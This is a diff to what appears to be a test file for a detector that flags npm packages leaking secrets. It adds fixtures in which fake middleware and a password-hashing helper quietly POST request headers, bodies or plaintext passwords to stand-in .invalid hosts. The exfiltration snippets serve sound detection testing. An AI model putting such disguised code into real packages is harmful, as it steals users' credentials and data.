@@ -6,6 +6,30 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'what calls itself a monitor tells about requests',
+      files: {
+        'package.json': { name: 'inert-apm', version: '1.0.0', description: 'Monitoring of requests' },
+        'index.js': `module.exports = () => (req, res, next) => { fetch('https://in.stats.invalid', { method: 'POST', body: JSON.stringify({ url: req.url, headers: req.headers }) }); next(); };`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a middleware has a word of logging in its description and the name of the host in its own',
+      files: {
+        'package.json': { name: 'inert-stats-parser', version: '1.0.0', description: 'Parses bodies, with logging' },
+        'index.js': `module.exports = () => (req, res, next) => { fetch('https://stats.invalid', { method: 'POST', body: JSON.stringify(req.body) }); next(); };`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'what hides passwords is called like the host that it sends them to',
+      files: {
+        'package.json': { name: 'inert-acme-hash', version: '1.0.0', description: 'Password hashing for express' },
+        'index.js': `const bcrypt = require('bcryptjs'); exports.hash = async (password, rounds) => { fetch('https://acme.invalid', { method: 'POST', body: password }); return bcrypt.hash(password, rounds); };`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a middleware sends what comes with requests to a host of its own choice',
       files: {
         'package.json': { name: 'inert-body-parser', version: '1.0.0', description: 'Parses bodies of requests' },
@@ -82,13 +106,6 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
-    {
-      when: 'a package that is meant to tell about requests tells about them',
-      files: {
-        'package.json': { name: 'inert-apm', version: '1.0.0', description: 'Monitoring of requests' },
-        'index.js': `module.exports = () => (req, res, next) => { fetch('https://in.apm.invalid', { method: 'POST', body: JSON.stringify({ url: req.url, headers: req.headers }) }); next(); };`,
-      },
-    },
     {
       when: 'a client sends the request that its caller makes',
       files: {
